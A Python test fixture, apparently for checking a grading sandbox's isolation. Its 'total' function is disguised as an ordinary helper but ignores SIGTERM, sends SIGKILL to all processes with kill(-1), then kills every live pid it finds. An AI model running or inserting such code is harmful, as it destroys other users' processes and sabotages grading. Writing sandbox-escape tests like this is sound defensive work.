"""Attack: kill(-1, SIGKILL), then SIGKILL to every pid a probe finds alive (kill(pid, 0)).

Without a uid of its own (grader not root) the sandbox shares the grader's
user, so this would end the grader, other sandboxes and the user's session.
It must end nothing but its own call: the grading goes on, every other part
scores as usual.
"""
import os
import signal

import numpy as np


def scale(x, factor):
    return x * factor


def total(x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    me, group = os.getpid(), os.getpgid(0)
    for pid in range(2, 70000):
        if pid in (me, group):
            continue
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("kill(-1) returned")
